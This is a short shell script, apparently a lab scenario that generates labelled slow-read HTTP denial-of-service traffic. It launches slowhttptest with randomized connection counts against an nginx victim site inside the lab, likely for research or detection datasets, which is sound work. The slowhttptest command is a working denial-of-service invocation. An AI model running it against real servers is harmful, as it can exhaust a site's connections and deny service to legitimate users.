# SPDX-License-Identifier: MIT
# label: dos-http-slow
# source: lab-slowhttptest
# needs: slowhttptest nginx
# seconds: 60
# Answers that are read in crumbs.
. $lab/victims.sh

servers() {
	victim_site d 80
}

scenario() {
	_count=$(choose 60 200)
	setting options "-X -c $_count"
	cd "$work" || return
	attack u d tcp 80 -- timeout 50 slowhttptest -X -c "$_count" -r "$(choose 10 50)" -w 256 \
		-y 512 \
		-n 5 -z 32 -k 2 -l 45 -u "http://$(addr d)/300k"
}
